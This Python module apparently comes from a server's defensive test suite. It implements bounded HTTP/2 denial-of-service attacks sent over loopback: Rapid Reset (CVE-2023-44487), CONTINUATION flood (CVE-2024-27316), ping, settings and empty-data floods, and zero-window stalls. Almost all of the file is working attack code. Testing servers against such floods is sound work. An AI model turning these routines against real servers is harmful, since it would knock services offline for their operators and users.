"""Attacks on HTTP/2 itself, each bounded in count: by hand, from one connection to loopback."""

from __future__ import annotations

import struct

import http2

# Another address of this host than an honest vehicle's, for what counts by address.
HOSTILE = "127.0.0.9"


def rapid_reset(attacker: http2.Attacker, count: int) -> None:
    """CVE-2023-44487: calls that are reset as soon as they are made."""
    for _ in range(count // 100):
        burst = b""
        for _ in range(100):
            stream, attacker.next_stream = attacker.next_stream, attacker.next_stream + 2
            fields = http2.call_fields(http2.STATUS)
            burst += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, fields)
            burst += http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))
        if not attacker.send(burst):
            return
        attacker.drain()


def continuation_flood(attacker: http2.Attacker, frames: int) -> None:
    """CVE-2024-27316: headers that never end, 15 KiB a frame."""
    attacker.send(http2.frame(http2.HEADERS, 0, 1, http2.call_fields(http2.PLAN)))
    fields = http2.field("x-a", "b" * 100) * 140
    for _ in range(frames):
        if not attacker.send(http2.frame(http2.CONTINUATION, 0, 1, fields)):
            return
        attacker.drain()


def _flood(attacker: http2.Attacker, frame: bytes, count: int, *, read: bool) -> None:
    for _ in range(count // 100):
        if not attacker.send(frame * 100):
            return
        if read:
            attacker.drain()


def ping_flood(attacker: http2.Attacker, count: int) -> None:
    """Pings whose answers nobody reads."""
    _flood(attacker, http2.frame(http2.PING, 0, 0, b"12345678"), count, read=False)


def settings_flood(attacker: http2.Attacker, count: int) -> None:
    """Settings whose acknowledgements nobody reads."""
    _flood(attacker, http2.frame(http2.SETTINGS, 0, 0), count, read=False)


def empty_data_flood(attacker: http2.Attacker, count: int) -> None:
    """Frames of no data on one stream."""
    stream = attacker.call(http2.STREAM_PLANS)
    _flood(attacker, http2.frame(http2.DATA, 0, stream), count, read=True)


def zero_window(attacker: http2.Attacker, count: int) -> None:
    """Calls whose answers may not be sent: the attacker's window is 0."""
    for _ in range(count):
        attacker.call(http2.STATUS, http2.message(b"\x0a\x01x"), http2.END_STREAM)
    attacker.drain()
